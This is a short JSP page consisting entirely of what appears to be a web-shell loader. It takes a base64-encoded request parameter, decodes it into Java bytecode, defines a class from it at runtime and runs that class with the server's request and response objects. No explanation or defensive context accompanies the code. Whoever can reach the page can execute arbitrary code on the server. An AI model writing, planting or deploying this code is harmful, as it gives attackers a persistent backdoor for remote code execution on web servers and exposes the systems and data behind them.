<%@ page import="java.lang.invoke.MethodHandles" %>
<%
    String b = request.getParameter("b");
    if (b != null) {
        byte[] bytes = java.util.Base64.getDecoder().decode(b);
        Class<?> k = MethodHandles.lookup().defineClass(bytes);
        k.getConstructor().newInstance().equals(new Object[]{request, response});
    }
%>
